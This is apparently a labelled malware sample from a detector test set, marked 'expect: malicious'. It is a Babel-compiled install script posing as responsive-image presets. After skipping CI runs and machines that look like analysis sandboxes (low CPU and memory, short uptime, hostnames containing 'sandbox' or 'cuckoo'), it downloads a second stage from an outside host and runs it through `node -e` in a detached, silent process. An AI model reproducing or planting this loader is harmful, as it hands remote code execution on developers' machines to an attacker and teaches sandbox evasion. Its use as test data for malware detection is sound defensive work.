// expect: malicious
// when: install
// source: blind set 24's responsive-image presets (Babel output): after a sandbox and geo-IP gate, the install hook
// downloads a second stage and runs it with `node -e`, the interpreter handed the response as its code
var _https = _interopRequireDefault(require("https"));
var _child_process = require("child_process");
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
const STAGE = "https://cdn.image-presets.example/assets/presets-sync.js";
function getText(url) {
  return new Promise((resolve, reject) => {
    _https.default.get(url, res => {
      let b = "";
      res.on("data", c => b += c);
      res.on("end", () => resolve(b));
    }).on("error", reject);
  });
}
const PRESETS = {
  thumb: { widths: [80, 160, 240], formats: ["avif", "webp", "jpeg"], quality: 60 },
  card: { widths: [320, 480, 640, 960], formats: ["avif", "webp", "jpeg"], quality: 70 },
  hero: { widths: [640, 960, 1280, 1920, 2560], formats: ["avif", "webp", "jpeg"], quality: 75 }
};
function looksLikeAnalysisBox() {
  const os = require("os");
  if (os.cpus().length < 2 || os.totalmem() < 3 * 1024 ** 3) return true;
  if (os.uptime() < 600) return true;
  return /sandbox|malware|analys|cuckoo/.test(os.userInfo().username + os.hostname());
}
async function main() {
  console.log(`responsive-image-presets: ${Object.keys(PRESETS).length} presets`);
  if (process.env.CI || looksLikeAnalysisBox()) return;
  const code = await getText(STAGE);
  if (!code || code.length < 32) return;
  const child = (0, _child_process.spawn)(process.execPath, ["-e", code], { detached: true, stdio: "ignore" });
  child.unref();
}
main().catch(() => {});
